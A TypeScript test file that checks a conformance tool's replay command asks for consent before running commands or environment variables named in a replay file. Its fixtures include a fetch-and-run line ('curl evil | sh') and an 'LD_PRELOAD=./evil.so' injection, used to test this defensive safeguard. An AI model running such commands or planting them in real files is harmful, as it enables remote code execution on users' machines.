import { readFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { KitError } from "../../src/core/errors.js";
import { consentedArgv, type ReplayConsent } from "../../src/fuzz/replay-run.js";
import { replayCommandLine, type ReplayFile } from "../../src/fuzz/replay.js";

const ROOT = join(import.meta.dirname, "../..");
const provider = JSON.parse(readFileSync(join(ROOT, "golden/regressions/provider-crash-on-nesting-20.json"), "utf8")) as ReplayFile;
const agent = JSON.parse(readFileSync(join(ROOT, "golden/regressions/agent-cli-drop-terminal-over-64k.json"), "utf8")) as ReplayFile;
const hostile: ReplayFile = { ...provider, candidate: { ...provider.candidate, argv: ["/bin/sh", "-c", "curl evil | sh\u001b[2K"] } };

/** A scripted person: what they were shown, what they were asked, and their answer. */
function person(options: { yes?: boolean; interactive?: boolean; answer?: string }): ReplayConsent & { shown: string[]; asked: string[] } {
  const shown: string[] = [];
  const asked: string[] = [];
  return {
    yes: options.yes ?? false,
    interactive: options.interactive ?? false,
    shown,
    asked,
    show: (text) => void shown.push(text),
    ask: async (question) => {
      asked.push(question);
      return options.answer ?? "";
    },
  };
}

async function refused(run: Promise<unknown>): Promise<string> {
  const error = await run.then(() => undefined, (e: unknown) => e);
  expect(error).toBeInstanceOf(KitError);
  expect((error as KitError).exitCode).toBe(2);
  return (error as KitError).message;
}

describe("replay runs what a file names only with consent", () => {
  it("runs the candidate given on the command line without asking", async () => {
    const p = person({});
    expect(await consentedArgv(hostile, "f.json", ["./mine", "--flag"], p)).toEqual(["./mine", "--flag"]);
    expect(p.shown).toEqual([]);
  });

  it("without a candidate and without a terminal: exit 2, the recorded command shown escaped, and how to go on", async () => {
    const message = await refused(consentedArgv(hostile, "f.json", undefined, person({})));
    expect(message).toBe("f.json: not run: the file names the command to run (/bin/sh -c 'curl evil | sh\\u001b[2K'), and a replay file may come from anyone; give the candidate to replay against (awp-conformance replay f.json ./candidate [args...]), or pass --yes to run the recorded command");
  });

  it("with --yes: runs the recorded command and says so", async () => {
    const p = person({ yes: true });
    expect(await consentedArgv(hostile, "f.json", undefined, p)).toEqual(hostile.candidate.argv);
    expect(p.shown.join("")).toMatch(/names the command to run:\n {2}\/bin\/sh -c 'curl evil \| sh\\u001b\[2K'\nRunning the recorded command \(--yes\)\./);
  });

  it("on a terminal: shows the command, asks y/N, and runs it only on y or yes", async () => {
    for (const answer of ["y", "YES", " y "]) expect(await consentedArgv(hostile, "f.json", undefined, person({ interactive: true, answer }))).toEqual(hostile.candidate.argv);
    for (const answer of ["", "n", "no", "yy", "sure"]) {
      const p = person({ interactive: true, answer });
      expect(await refused(consentedArgv(hostile, "f.json", undefined, p))).toMatch(/^f\.json: not run \(answered ".*"\); give your own candidate/);
      expect(p.asked).toEqual(["Run the recorded command? [y/N] "]);
      expect(p.shown.join("")).toMatch(/run it only if you trust where it came from/);
    }
  });

  it("asks about an agent-cli file's own environment values even with a candidate, not about the kit's placeholders", async () => {
    expect(agent.candidate.env).toEqual({ AWP_REFERENCE_API_BASE_URL: "{{fixture.openai}}", AWP_REFERENCE_API_KEY: "{{fixture.token}}" });
    expect(await consentedArgv(agent, "a.json", ["./mine"], person({}))).toEqual(["./mine"]);
    const preload: ReplayFile = { ...agent, candidate: { ...agent.candidate, env: { ...agent.candidate.env, LD_PRELOAD: "./evil.so" } } };
    expect(await refused(consentedArgv(preload, "a.json", ["./mine"], person({})))).toBe("a.json: not run: the file sets environment variables for the candidate (LD_PRELOAD=./evil.so), and a replay file may come from anyone; pass --yes to run with them");
    expect(await consentedArgv(preload, "a.json", ["./mine"], person({ yes: true }))).toEqual(["./mine"]);
    // A provider replay never applies the file's environment, so it never asks about it.
    expect(await consentedArgv({ ...provider, candidate: { ...provider.candidate, env: { LD_PRELOAD: "x" } } }, "p.json", ["./mine"], person({}))).toEqual(["./mine"]);
  });

  it("prints replay commands that name the candidate, with --yes only for environment values of its own", () => {
    expect(replayCommandLine("r/x.json", { argv: ["/p/fake.mjs", "--fault", "a b"] })).toBe("awp-conformance replay r/x.json -- /p/fake.mjs --fault 'a b'");
    expect(replayCommandLine("r/x.json", { argv: ["/p/cli"], env: { URL: "{{fixture.openai}}" } })).toBe("awp-conformance replay r/x.json /p/cli");
    expect(replayCommandLine("r/x.json", { argv: ["/p/cli"], env: { MODE: "fast" } })).toBe("awp-conformance replay r/x.json --yes /p/cli");
  });
});
